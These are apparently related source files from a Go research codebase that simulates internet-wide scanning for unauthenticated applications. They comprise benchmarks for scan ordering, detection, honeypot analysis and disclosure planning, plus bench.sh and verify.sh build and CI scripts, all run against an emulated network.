// single /24 receives under the BlackRock permutation versus sequential
// scanning — the ethical-scanning property motivating the randomized
// iteration.
func BenchmarkAblationRandomizedOrder(b *testing.B) {
	benchOrderAblation(b, false)
}

// BenchmarkAblationSequentialOrder is the counterfactual linear sweep.
func BenchmarkAblationSequentialOrder(b *testing.B) {
	benchOrderAblation(b, true)
}

// burstProber records probe order to compute the sliding-window burst a
// single /24 absorbs; every probe misses (empty network).
type burstProber struct {
	window   []uint32
	counts   map[uint32]int
	maxBurst int
}

func (p *burstProber) ProbePort(ip netip.Addr, port int) error {
	b4 := ip.As4()
	block := uint32(b4[0])<<16 | uint32(b4[1])<<8 | uint32(b4[2])
	p.window = append(p.window, block)
	p.counts[block]++
	if p.counts[block] > p.maxBurst {
		p.maxBurst = p.counts[block]
	}
	if len(p.window) > 256 {
		old := p.window[0]
		p.window = p.window[1:]
		p.counts[old]--
	}
	return simnet.ErrHostUnreachable
}

func benchOrderAblation(b *testing.B, sequential bool) {
	for i := 0; i < b.N; i++ {
		prober := &burstProber{counts: map[uint32]int{}}
		_, err := portscan.New(prober).Scan(context.Background(), portscan.Config{
			Targets:    []netip.Prefix{netip.MustParsePrefix("10.0.0.0/16")},
			Ports:      []int{80},
			Workers:    1, // single worker so the order is the permutation's
			Sequential: sequential,
			Seed:       uint64(i),
		}, func(portscan.Result) {})
		if err != nil {
			b.Fatal(err)
		}
		if i == 0 {
			mode := "randomized"
			if sequential {
				mode = "sequential"
			}
			fmt.Printf("%s order: max probes into one /24 within any 256-probe window: %d\n", mode, prober.maxBurst)
		}
	}
}

// --- Micro-benchmarks ---

// BenchmarkBlackRockShuffle measures the per-probe cost of the
// format-preserving permutation over a /8-sized range.
func BenchmarkBlackRockShuffle(b *testing.B) {
	shuffle := portscan.NewShuffler(1<<24, 42)
	var sink uint64
	for i := 0; i < b.N; i++ {
		sink += shuffle(uint64(i) % (1 << 24))
	}
	_ = sink
}

// BenchmarkPrefilterMatch measures signature matching over a real
// WordPress landing page served by the emulator.
func BenchmarkPrefilterMatch(b *testing.B) {
	body := fetchBody(b, mav.WordPress, apps.Config{App: mav.WordPress, Installed: true}, 80, "/")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if matched := prefilter.MatchBody(body); len(matched) != 1 {
			b.Fatalf("match failed: %v", matched)
		}
	}
}

// fetchBody deploys one emulated instance and fetches a page through the
// simulated network.
func fetchBody(b *testing.B, app mav.App, cfg apps.Config, port int, path string) string {
	b.Helper()
	net := simnet.New()
	inst, err := apps.New(cfg)
	if err != nil {
		b.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.1")
	h := simnet.NewHost(ip)
	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := net.AddHost(h); err != nil {
		b.Fatal(err)
	}
	client := httpsim.NewClient(net, httpsim.ClientOptions{})
	env := tsunami.NewEnv(client)
	resp, err := env.Get(context.Background(), tsunami.Target{IP: ip, Port: port, Scheme: "http", App: app}, path)
	if err != nil {
		b.Fatal(err)
	}
	return resp.Body
}

// BenchmarkPluginDetect measures one full MAV verification (Docker: two
// HTTP requests over the simulated network).
func BenchmarkPluginDetect(b *testing.B) {
	net := simnet.New()
	inst, err := apps.New(apps.Config{App: mav.Docker})
	if err != nil {
		b.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.1")
	h := simnet.NewHost(ip)
	h.Bind(2375, httpsim.ConnHandler(inst.Handler()))
	if err := net.AddHost(h); err != nil {
		b.Fatal(err)
	}
	client := httpsim.NewClient(net, httpsim.ClientOptions{DisableKeepAlives: true})
	engine := tsunami.NewEngine(plugins.NewRegistry(), client)
	t := tsunami.Target{IP: ip, Port: 2375, Scheme: "http", App: mav.Docker}
	ctx := context.Background()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(engine.Scan(ctx, t)) != 1 {
			b.Fatal("detection failed")
		}
	}
}

// BenchmarkSimnetDial measures raw connection setup through the simulated
// internet (pipe creation plus handler dispatch).
func BenchmarkSimnetDial(b *testing.B) {
	network := simnet.New()
	ip := netip.MustParseAddr("10.0.0.1")
	h := simnet.NewHost(ip)
	h.Bind(80, func(c net.Conn) { c.Close() })
	if err := network.AddHost(h); err != nil {
		b.Fatal(err)
	}
	ctx := context.Background()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		conn, err := network.Dial(ctx, ip, 80)
		if err != nil {
			b.Fatal(err)
		}
		conn.Close()
	}
}

// BenchmarkEventStore measures append+query throughput of the central log.
func BenchmarkEventStore(b *testing.B) {
	store := &eslite.Store{}
	for i := 0; i < b.N; i++ {
		store.Append(eslite.Event{Type: "exec", Fields: map[string]string{"src": "10.0.0.1", "app": "Hadoop"}})
		if i%1024 == 0 {
			store.Count(eslite.Query{Type: "exec", Match: map[string]string{"app": "Hadoop"}})
		}
	}
}

// BenchmarkSessionize measures attack sessionization over the full
// honeypot event stream.
func BenchmarkSessionize(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		attacks := analysis.Uniquify(analysis.Sessionize(hs.Store))
		if len(attacks) == 0 {
			b.Fatal("no attacks")
		}
	}
}

// BenchmarkAttackPlanBuild measures instantiating the calibrated attacker
// roster into a 2,195-attack schedule.
func BenchmarkAttackPlanBuild(b *testing.B) {
	db := geo.Default()
	for i := 0; i < b.N; i++ {
		plan := attacker.BuildPlan(db, study.HoneypotStart, int64(i))
		if len(plan.Attacks) < 2000 {
			b.Fatalf("plan too small: %d", len(plan.Attacks))
		}
	}
}

// BenchmarkExtensionCTLogAdvantage runs the Section-6.2 extension: the
// certificate-transparency attacker racing the full-sweep attacker for
// fresh CMS installations.
func BenchmarkExtensionCTLogAdvantage(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := ctlog.RunExperiment(ctlog.ExperimentConfig{Seed: int64(i + 1), Deployments: 120})
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() {
			fmt.Printf("CT-log extension: %s\n", res)
		})
	}
}

// BenchmarkDisclosurePlan measures building the responsible-disclosure
// plan for the scan study's confirmed MAVs.
func BenchmarkDisclosurePlan(b *testing.B) {
	scan := sharedScan(b)
	var findings []disclosure.Finding
	for _, obs := range scan.Report.VulnerableObservations() {
		findings = append(findings, disclosure.Finding{
			IP: obs.IP, Port: obs.Port, App: obs.App, TLS: obs.Scheme == "https",
		})
	}
	builder := disclosure.New(scan.World.Net, scan.World.Geo)
	ctx := context.Background()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		plan := builder.Build(ctx, findings)
		printOnce(i, func() { fmt.Print(plan.RenderSummary()) })
	}
}

// BenchmarkAblationFingerprintDirect and ...Hash compare the two version-
// identification paths: direct extraction (one or two requests) against
// crawl-and-hash (landing page + every linked asset).
func BenchmarkAblationFingerprintDirect(b *testing.B) {
	benchFingerprint(b, mav.Docker, 2375) // direct: /version
}

// BenchmarkAblationFingerprintHash uses an application without voluntary
// version disclosure, forcing the knowledge-base path.
func BenchmarkAblationFingerprintHash(b *testing.B) {
	benchFingerprint(b, mav.Grav, 80)
}

func benchFingerprint(b *testing.B, app mav.App, port int) {
	network := simnet.New()
	cfg := apps.Config{App: app, Installed: true}
	inst, err := apps.New(cfg)
	if err != nil {
		b.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.1")
	h := simnet.NewHost(ip)
	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := network.AddHost(h); err != nil {
		b.Fatal(err)
	}
	client := httpsim.NewClient(network, httpsim.ClientOptions{DisableKeepAlives: true})
	env := tsunami.NewEnv(client)
	fp := fingerprint.New(env)
	target := tsunami.Target{IP: ip, Port: port, Scheme: "http", App: app}
	ctx := context.Background()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := fp.Fingerprint(ctx, target)
		if !res.Identified() {
			b.Fatal("fingerprint failed")
		}
	}
}
