#!/usr/bin/env bash
# bench.sh — run the performance benchmark suite and update BENCH_pr10.json.
#
# Runs the pipeline-level table benchmarks (Table 2 / Table 3; one
# iteration is a full simulated internet scan, so only a few iterations
# each) plus the hot-path micro benchmarks, all with -benchmem, and folds
# the results into a JSON file of the shape
#
#   {"baseline": {name: {ns_per_op, bytes_per_op, allocs_per_op}}, "after": {...}}
#
# The "baseline" section is written once (first run on a tree) and then
# preserved; every subsequent run refreshes "after", so the file always
# carries before/after evidence for the current PR. Table benchmarks are
# run $TABLE_RUNS times (default 3) and the median ns/op is kept: the
# container-grade CPUs this runs on are noisy.
set -euo pipefail
cd "$(dirname "$0")/.."

OUT="${1:-BENCH_pr10.json}"
TABLE_RUNS="${TABLE_RUNS:-3}"
TMP="$(mktemp)"
trap 'rm -f "$TMP" "$TMP.json"' EXIT

echo "==> table benchmarks (${TABLE_RUNS} runs, -benchtime=3x)"
for _ in $(seq "$TABLE_RUNS"); do
	go test -run '^$' -bench 'BenchmarkTable2OpenPorts(Telemetry)?$|BenchmarkTable3Prevalence(Telemetry)?$' \
		-benchtime=3x -benchmem . >>"$TMP"
done

echo "==> micro benchmarks (default benchtime)"
go test -run '^$' -bench 'BenchmarkBlackRockShuffle$|BenchmarkSimnetDial$' -benchmem . >>"$TMP"
go test -run '^$' -bench . -benchmem ./internal/portscan/ >>"$TMP"
go test -run '^$' -bench . -benchmem ./internal/simnet/ >>"$TMP"
go test -run '^$' -bench . -benchmem ./internal/scanner/ >>"$TMP"
go test -run '^$' -bench . -benchmem ./internal/telemetry/ >>"$TMP"

echo "==> orchestrator shard sweep (-benchtime=1x: one iteration is a full scan)"
go test -run '^$' -bench 'BenchmarkScanThroughput' -benchtime=1x -benchmem ./internal/orchestrator/ >>"$TMP"

echo "==> operations plane: serve-off vs serve-on scan (-benchtime=1x; ≤2% overhead budget)"
go test -run '^$' -bench 'BenchmarkScanThroughputServe' -benchtime=1x -benchmem ./internal/obs/ >>"$TMP"

echo "==> adversarial population: hostile-off vs hostile-on scan (-benchtime=1x; off variant gates the ≤2% benign-path overhead budget)"
go test -run '^$' -bench 'BenchmarkScanHostile' -benchtime=1x -benchmem . >>"$TMP"

echo "==> population scale sweep: world setup (lazy vs eager, heap-bytes) and probe throughput at 1x/100x/1000x"
go test -run '^$' -bench 'BenchmarkWorldSetup' -benchtime=1x ./internal/population/ >>"$TMP"
go test -run '^$' -bench 'BenchmarkScanProbeThroughput|BenchmarkLocate' -benchtime=200000x -benchmem ./internal/population/ >>"$TMP"

echo "==> fabric worker sweep vs monolithic (-benchtime=1x: one iteration is a full scan)"
go test -run '^$' -bench 'BenchmarkFabricScan' -benchtime=1x -benchmem ./internal/fabric/ >>"$TMP"

echo "==> mavlint analyzer wall-time (per rule + full suite)"
go test -run '^$' -bench 'BenchmarkAnalyzer|BenchmarkSuite' -benchmem ./internal/lint/ >>"$TMP"

# Parse `go test -bench` output. A benchmark that logs prints its name on
# one line and the measurements on the next, so carry the name forward.
awk '
/^Benchmark/ {
	pending = $1
	if ($0 ~ /ns\/op/) { emit(pending, $0); pending = "" }
	next
}
pending != "" && /ns\/op/ { emit(pending, $0); pending = "" }
function emit(name, line,    f, n, i, ns, b, a, h, r) {
	n = split(line, f)
	ns = 0; b = 0; a = 0; h = 0; r = 0
	for (i = 2; i <= n; i++) {
		if (f[i] == "ns/op")          ns = f[i-1]
		if (f[i] == "B/op")           b  = f[i-1]
		if (f[i] == "allocs/op")      a  = f[i-1]
		if (f[i] == "heap-bytes")     h  = f[i-1]
		if (f[i] == "resident-hosts") r  = f[i-1]
	}
	print name, ns, b, a, h, r
}
' "$TMP" |
	jq -Rn '
		[inputs | split(" ") | {
			name: .[0],
			ns: (.[1] | tonumber),
			b: (.[2] | tonumber),
			a: (.[3] | tonumber),
			h: (.[4] | tonumber),
			r: (.[5] | tonumber)
		}]
		| group_by(.name)
		| map({
			key: .[0].name,
			value: ({
				ns_per_op: (sort_by(.ns) | .[(length - 1) / 2 | floor].ns),
				bytes_per_op: .[0].b,
				allocs_per_op: .[0].a
			}
			+ (if .[0].h > 0 then {heap_bytes: .[0].h} else {} end)
			+ (if .[0].r > 0 then {resident_hosts: .[0].r} else {} end))
		})
		| from_entries
	' >"$TMP.json"

if [ -f "$OUT" ] && jq -e '.baseline' "$OUT" >/dev/null 2>&1; then
	jq --slurpfile fresh "$TMP.json" '.after = $fresh[0]' "$OUT" >"$OUT.tmp"
	mv "$OUT.tmp" "$OUT"
else
	jq -n --slurpfile fresh "$TMP.json" '{baseline: $fresh[0], after: $fresh[0]}' >"$OUT"
fi

echo "bench.sh: wrote $OUT"
