#!/usr/bin/env bash
# verify.sh — the gate every change must pass before merge.
#
# Runs the build, go vet, the repo's own static-analysis suite (mavlint,
# see internal/lint), the short test suite, and the short suite under the
# race detector. Mirrors .github/workflows/ci.yml.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> go build"
go build ./...

echo "==> go vet"
go vet ./...

echo "==> mavlint (paper safety/determinism invariants)"
go run ./cmd/mavlint ./...

# The resilience layer is where a wall-clock wait would be most tempting
# and most damaging (a time.Sleep backoff stalls simulated studies), so
# gate it explicitly even though the full-module run above covers it.
echo "==> mavlint (faults/resilience clock discipline and hermeticity)"
go run ./cmd/mavlint -rules simclock,hermetic,goleak -pkg internal/faults,internal/resilience,internal/orchestrator ./...

echo "==> orchestrator smoke (sharded run + kill/resume)"
go test -short -run 'TestOrchestratorSmoke|TestResumeRejectsChangedPlan|TestFileStoreResumesAcrossReopen' -v ./internal/orchestrator/ | tail -n 2

echo "==> go test -short"
go test -short ./...

echo "==> go test -short -race"
go test -short -race ./...

echo "verify.sh: all checks passed"
