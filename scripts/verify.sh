#!/usr/bin/env bash
# verify.sh — the gate every change must pass before merge.
#
# Runs the build, go vet, the repo's own static-analysis suite (mavlint,
# see internal/lint), the short test suite, and the short suite under the
# race detector. Mirrors .github/workflows/ci.yml.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> go build"
go build ./...

echo "==> go vet"
go vet ./...

echo "==> mavlint (all eight rules, full module, baseline diff)"
go run ./cmd/mavlint -baseline lint.baseline ./...

echo "==> mavlint -format json (machine-readable findings for CI)"
go run ./cmd/mavlint -format json ./... >mavlint-findings.json || {
	cat mavlint-findings.json
	exit 1
}

echo "==> orchestrator smoke (sharded run + kill/resume)"
go test -short -run 'TestOrchestratorSmoke|TestResumeRejectsChangedPlan|TestFileStoreResumesAcrossReopen' -v ./internal/orchestrator/ | tail -n 2

echo "==> go test -short"
go test -short ./...

echo "==> go test -short -race"
go test -short -race ./...

echo "verify.sh: all checks passed"
